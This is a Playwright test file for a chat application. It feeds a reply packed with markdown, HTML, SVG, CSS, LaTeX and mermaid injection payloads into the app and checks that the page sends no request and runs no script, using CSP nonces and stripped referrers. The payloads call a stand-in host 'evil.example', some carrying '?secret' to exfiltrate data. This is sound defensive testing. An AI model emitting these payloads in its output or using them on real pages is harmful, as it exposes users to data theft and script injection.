import type { Page } from 'playwright-core';
import { describe, expect, it } from 'vitest';
import { chatApp } from './support/chat-app';
import { say } from './support/journey';

const EVIL = 'https://evil.example';
const RUN = 'window.tricked=true;alert(1)';

/** What is known to make a page load something from outside, or run it, when a model writes it: each in a block of its own. */
const TRICKS = [
  `![an image](${EVIL}/1?secret)`,
  `![by reference][there]`,
  `[![in a link](${EVIL}/2)](${EVIL}/3)`,
  `![from here](//evil.example/4)`,
  `![as data](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)`,
  `<img src="${EVIL}/5" srcset="${EVIL}/6 1x" onerror="${RUN}">`,
  `<script>${RUN}</script><script src="${EVIL}/7"></script>`,
  `<svg onload="${RUN}"><image href="${EVIL}/8"/></svg>`,
  `<iframe src="${EVIL}/9" srcdoc="<script>${RUN}</script>"></iframe>`,
  `<style>@import url(${EVIL}/10); * { background: url(${EVIL}/11) }</style>`,
  `<p style="background:url(${EVIL}/12)">styled</p>`,
  `<link rel="stylesheet" href="${EVIL}/13"><link rel="dns-prefetch" href="//secret.evil.example">`,
  `<meta http-equiv="refresh" content="0;url=${EVIL}/14"><base href="${EVIL}/">`,
  `<form action="${EVIL}/15"><button autofocus onfocus="${RUN}">Send</button></form>`,
  `<video src="${EVIL}/16" poster="${EVIL}/17" autoplay></video><object data="${EVIL}/18"></object>`,
  `<a href="${EVIL}" ping="${EVIL}/19">pings</a>`,
  `[a script](javascript:${RUN}) [in capitals](JaVaScRiPt:${RUN}) [a page](data:text/html,<script>${RUN}</script>)`,
  `<javascript:${RUN}> and ${EVIL}/20 and www.evil.example/21`,
  `\\(\\includegraphics{${EVIL}/22}\\) \\(\\htmlStyle{background:url(${EVIL}/23)}{x}\\)`,
  `$$\\href{javascript:${RUN}}{x} \\url{${EVIL}/24}$$`,
  `\`\`\`mermaid\ngraph TD; A-->B; click A href "javascript:${RUN}"\n\`\`\``,
  `\`\`\`html\n<img src="${EVIL}/25" onerror="${RUN}">\n\`\`\``,
  `A note[^1].\n\n[^1]: ![in a note](${EVIL}/26)`,
  `| a | b |\n|---|---|\n| ![in a table](${EVIL}/27) | <img src=${EVIL}/28> |`,
  `[there]: ${EVIL}/29?secret "<img src=x onerror=${RUN}>"`,
  'The end of the tricks.',
];

declare global {
  interface Window {
    tricked?: boolean;
  }
}

/**
 * Puts an image of another host that runs a script into a page, as if what draws replies had let it through.
 *
 * @returns which rules of the page's policy have refused something since
 */
async function breakInto(page: Page): Promise<() => Promise<string[]>> {
  const image = `<img src="${EVIL}/30" onerror="${RUN}">`;
  const refused = await page.evaluateHandle((html) => {
    const refused: string[] = [];
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
      refused.push(effectiveDirective);
    });
    document.body.insertAdjacentHTML('beforeend', html);
    return refused;
  }, image);
  return async () => (await refused.jsonValue()).toSorted();
}

describe('a reply full of tricks', () => {
  const { openChat, url, allowComplaints } = chatApp({ texts: { tricks: TRICKS.join('\n\n') } });

  /** What a page asks of other hosts, and the dialogs that it opens. */
  function watch(page: Page): string[] {
    const seen: string[] = [];
    const own = new URL(url()).host;
    page.context().on('request', (request) => {
      const { protocol, host } = new URL(request.url());
      if (protocol !== 'blob:' && protocol !== 'data:' && host !== own) seen.push(request.url());
    });
    page.on('dialog', (dialog) => {
      seen.push(`a dialog: ${dialog.message()}`);
      void dialog.dismiss();
    });
    return seen;
  }

  async function expectHarmless(page: Page, seen: string[]): Promise<void> {
    await page.getByText('The end of the tricks.', { exact: true }).waitFor();
    await page.waitForLoadState('networkidle');
    expect(await page.evaluate(() => window.tricked)).toBeUndefined();
    expect(
      await page.locator('article :is(img, iframe, object, video, form, style, link, base)').count(),
    ).toBe(0);
    expect(seen).toEqual([]);
  }

  it('asks nothing of another host and runs nothing, while it streams and when it is opened again', async () => {
    const page = await openChat();
    const seen = watch(page);
    await say(page, 'tricks');
    await expectHarmless(page, seen);
    await page.reload();
    await expectHarmless(page, seen);
  });

  it('does so neither for whom it is shared with, and could on no page', async () => {
    allowComplaints(/Content Security Policy|ERR_BLOCKED_BY_CSP/);
    const page = await openChat();
    await say(page, 'tricks');
    await page.getByRole('button', { name: 'Share', exact: true }).click();
    await page.getByRole('button', { name: 'Make a link' }).click();
    const link = await page.getByRole('textbox', { name: 'Link' }).inputValue();
    const reader = await page.context().newPage();
    const seen = watch(reader);
    await reader.goto(link);
    await expectHarmless(reader, seen);

    const left: string[] = [];
    // What a policy refuses is a request to the browser's tools, but not to a route: it never leaves.
    await page.context().route(/evil\.example/, (route) => {
      left.push(route.request().url());
      return route.abort();
    });
    for (const each of [page, reader]) {
      const refused = await breakInto(each);
      await expect.poll(refused).toEqual(['img-src', 'script-src-attr']);
      expect(await each.evaluate(() => window.tricked)).toBeUndefined();
    }
    expect(left).toEqual([]);

    const policies: string[] = [];
    for (const path of [link, '/sign-in', '/docs/api', '/billing', '/chat', '/no-such-page']) {
      const answer = await page.request.get(new URL(path, url()).href, { maxRedirects: 0 });
      policies.push(answer.headers()['content-security-policy'] ?? `none at ${path}`);
    }
    expect(policies).toEqual(
      policies.map(() => expect.stringMatching(/script-src 'self' 'nonce-.*img-src 'self'/)),
    );
    // Each has a nonce of its own: one that is known would let anything in.
    expect(new Set(policies).size).toBe(policies.length);
  });

  it('opens what is outside only with a click, in a tab that is told nothing of where it comes from', async () => {
    const page = await openChat();
    await say(page, 'tricks');
    await page.context().route(/evil\.example/, (route) => route.fulfill({ body: 'outside' }));
    const [opened] = await Promise.all([
      page.context().waitForEvent('page'),
      page.getByRole('link', { name: /an image/ }).click(),
    ]);
    await opened.waitForURL(/evil\.example\/1/);
    expect(await opened.evaluate(() => [document.referrer, window.opener])).toEqual(['', null]);
  });
});
